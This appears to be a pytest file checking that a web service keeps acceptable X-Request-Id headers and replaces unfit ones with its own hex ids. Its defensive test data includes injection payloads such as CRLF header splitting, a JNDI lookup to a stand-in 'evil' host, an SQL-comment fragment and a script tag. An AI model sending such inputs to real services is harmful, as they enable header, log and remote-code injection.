"""Every request has an id."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
import pytest_asyncio

from tests.web.served import Served, serving

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

pytestmark = pytest.mark.asyncio(loop_scope="module")  # one application for all tests


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def served() -> AsyncIterator[Served]:
    """Run the application with the usual settings."""
    async with serving() as running:
        yield running


@pytest.mark.parametrize("offered", ["r-1", "A.b_C-9", "x" * 128])
async def test_callers_id_is_kept(served: Served, offered: str) -> None:
    """An acceptable id comes back in the header, on errors in the body too."""
    response = await served.http.get("/nowhere", headers={"X-Request-Id": offered})
    assert [offered] == response.headers.get_list("x-request-id")
    assert offered == response.json()["request_id"]


@pytest.mark.parametrize("method", ["GET", "POST"])  # by the framework, and before it
@pytest.mark.parametrize(
    "offered",
    [
        *("", " ", "a b", "x" * 129, "x" * 100_000, "ü", "a\tb", "<script>", "a;b", "a,b", "a/b"),
        *("a\n", "a\r\nX-Evil: 1", "a\r\n\r\n<html>", "a\x00", "\x1b[31m", "%0d%0a", "a\u2028"),
        *("${jndi:ldap://evil}", "{0}", "'; --", "a\x7f"),
    ],
)
async def test_unfit_id_is_replaced(served: Served, method: str, offered: str) -> None:
    """An id that could spoil a log or a header is replaced by one of ours, everywhere."""
    headers = [(b"X-Request-Id", offered.encode())]
    response = await served.http.request(method, "/predict", headers=headers)
    assert re.fullmatch(r"[0-9a-f]{32}", response.headers["x-request-id"])
    assert response.headers["x-request-id"] == response.json()["request_id"]
    assert "x-evil" not in response.headers


async def test_of_several_ids_one_counts(served: Served) -> None:
    """A request with two ids has the first, or one of ours if that is unfit."""
    for method in ("GET", "POST"):
        for first, said in (("r-1", "r-1"), ("r 1", None)):
            headers = [("X-Request-Id", first), ("X-Request-Id", "r-2")]
            response = await served.http.request(method, "/predict", headers=headers)
            (named,) = response.headers.get_list("x-request-id")
            assert named == said or (said is None and re.fullmatch(r"[0-9a-f]{32}", named))


async def test_each_request_has_its_own(served: Served) -> None:
    """Two requests without an id get two."""
    made = {(await served.http.get("/healthz")).headers["x-request-id"] for _ in range(2)}
    assert 2 == len(made)
